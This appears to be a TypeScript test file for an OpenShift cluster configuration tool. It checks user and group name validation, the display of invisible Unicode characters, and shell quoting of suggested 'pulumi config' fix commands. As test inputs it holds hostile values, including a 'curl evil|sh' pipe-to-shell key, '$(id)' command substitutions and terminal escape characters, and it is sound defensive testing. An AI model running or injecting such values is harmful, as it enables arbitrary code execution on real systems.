import { parseConfiguration } from "../../../config/parse";
import { groupObject } from "../../../cluster-objects/access-control/groups";
import { bindings } from "../../../cluster-objects/authentication/bindings";
import { showSummary } from "../../../tools/plan/show";
import { problemsOf, withKeys } from "./fixture";

const LDAP = {
  name: "ad",
  type: "LDAP",
  url: "ldaps://ad.example.com/dc=example,dc=com?sAMAccountName",
  groupSync: { schedule: "@hourly", schema: "activeDirectory", usersBaseDN: "dc=example,dc=com", groups: ["Cloud Operations"] },
};
const PASSWORD = "a good password";

/** Every key that names users or groups. */
const withName = (name: string): Record<string, unknown> => ({
  identityProviders: [LDAP, { name: "h", type: "HTPasswd" }],
  htpasswdUsers: { [name]: PASSWORD },
  clusterAdmins: [name],
  clusterAdminGroups: [name],
  groups: [{ name, users: [name] }],
  roleBindings: [{ name: "x", role: "view", users: [name], groups: [name] }],
});
const KEYS = ["htpasswdUsers", "clusterAdmins", "clusterAdminGroups", "roleBindings", "roleBindings", "groups", "groups"];

describe("names of users and groups", () => {
  test.each([
    "OCP Admins",
    "Domain Admins",
    "CN=Cloud Team,OU=Groups,DC=example,DC=com",
    "anna@example.com",
    "Ünal Öz",
    "a  b",
    'o\'neil "x" & <y>',
    "$(id) `x`",
  ])("are accepted as OpenShift accepts them: %j", (name) => {
    expect(problemsOf(withKeys(withName(name)))).toEqual([]);
    const { authentication, accessControl } = parseConfiguration(withKeys(withName(name))).platform;
    const [admins, binding] = bindings(authentication).map(
      (object) => (object as unknown as { subjects: { kind: string; name: string }[] }).subjects,
    );
    for (const subjects of [admins, binding])
      expect(subjects.map((subject) => [subject.kind, subject.name])).toEqual([
        ["User", name],
        ["Group", name],
      ]);
    expect(accessControl.groups.map(groupObject)).toMatchObject([{ metadata: { name }, users: [name] }]);
    expect([...authentication.htpasswdUsers.keys()]).toEqual([name]);
  });

  test.each([
    "/ocp-admins",
    "a/b",
    "50%",
    ".",
    "..",
    "~",
    "github:anna",
    " anna",
    "anna ",
    "an\u2060na",
    "an\u00adna",
    "\u202eanna",
    "an\u061cna",
    "an\u180ena",
    "an\u115fna",
    "an\u3164na",
    "an\u{e0061}na",
    "an\u00a0na",
    "an\tna",
    "an\nna",
    "an\u0000na",
    "x".repeat(501),
  ])("are refused: %j", (name) => {
    expect([...problemsOf(withKeys(withName(name))).map(({ key }) => key)].sort()).toEqual([...KEYS].sort());
  });

  test("with a prefix of the system are accepted in role bindings, but not as declared groups", () => {
    expect(
      problemsOf(withKeys({ roleBindings: [{ name: "x", role: "view", groups: ["system:authenticated"], users: ["b64:YW5uYQ"] }] })),
    ).toEqual([]);
    expect(problemsOf(withKeys({ groups: [{ name: "system:admins" }] })).map(({ key }) => key)).toEqual(["groups"]);
  });

  test("are refused with a line break, also for LDAP groups", () => {
    const groupSync = { ...LDAP.groupSync, groups: ["a\nb"] };
    expect(problemsOf(withKeys({ identityProviders: [{ ...LDAP, groupSync }] })).map(({ wrong }) => wrong)).toEqual([
      'item 1 (ad): groupSync.groups item 1 ("a\\nb") has an invisible character (U+000A)',
    ]);
  });
});

describe("an invisible character", () => {
  const INVISIBLE = [
    "\u2060",
    "\u2064",
    "\u00ad",
    "\u061c",
    "\u180e",
    "\u115f",
    "\u3164",
    "\u{e0061}",
    "\u200b",
    "\u202e",
    "\u2066",
    "\u001b",
  ];

  test.each(INVISIBLE)("is shown as its code point in a plan: %j", (character) => {
    for (const form of ["markdown", "terminal"] as const) {
      const exposure = (name: string) => ({ kind: "opened" as const, text: `everything to the user ${name}`, wide: true });
      const summary = {
        headline: "x",
        errors: [],
        warnings: [],
        consequences: [],
        renames: [],
        removals: [],
        exposures: [exposure("anna"), exposure(`an${character}na`)],
        configuration: [],
        groups: [],
      };
      const shown = showSummary(summary as unknown as Parameters<typeof showSummary>[0], form);
      expect(shown).not.toContain(character);
      expect(shown).toContain((character.codePointAt(0) ?? 0).toString(16).toUpperCase());
    }
  });

  test("is shown as its code point in an error, and quoted in commands", () => {
    const problems = problemsOf({
      ...withKeys({ clusterName: "a\u001b[31m\u202e" }),
      "okd-aws:foo; curl evil|sh": "x",
      "okd-aws:--all": "x",
      "okd-aws:x\u202ey": "x",
    });
    expect(problems.map(({ key }) => key)).toEqual(["clusterName", "foo; curl evil|sh", "--all", "x\\u{202E}y"]);
    expect(problems[0].value).toBe("a\\u{001B}[31m\\u{202E}");
    expect(problems.slice(1).map(({ fix }) => fix)).toEqual([
      "pulumi config rm 'foo; curl evil|sh'",
      "pulumi config rm -- --all",
      "pulumi config rm 'x\\u{202E}y'",
    ]);
  });

  test.each<[Record<string, unknown>, string]>([
    [{ identityProviderSecrets: { "it's": "x" } }, `pulumi config rm --path 'identityProviderSecrets["it'\\''s"]'`],
    [{ identityProviderSecrets: { 'a"]b': "x" } }, `pulumi config rm --path 'identityProviderSecrets["a\\"]b"]'`],
    [{ routerCertificateKeys: { "$(id)": "x" } }, "pulumi config set --secret --path 'routerCertificateKeys.<shard>' < key"],
    [{ zones: "us-east-1a,$(id)" }, "pulumi config set --path 'zones[0]' us-east-1a && pulumi config set --path 'zones[1]' '$(id)'"],
    [{ masterRoleName: "arn:aws:iam::123456789012:role/x;id" }, "pulumi config set masterRoleName 'x;id'"],
    [{ updateServer: "http://updates.example.com/$(id)'" }, `pulumi config set updateServer 'https://updates.example.com/$(id)'\\'''`],
  ])("in a name is one quoted word of the command in the fix: %j", (keys, fix) => {
    expect(problemsOf(withKeys(keys)).map((problem) => problem.fix)).toContain(fix);
  });
});
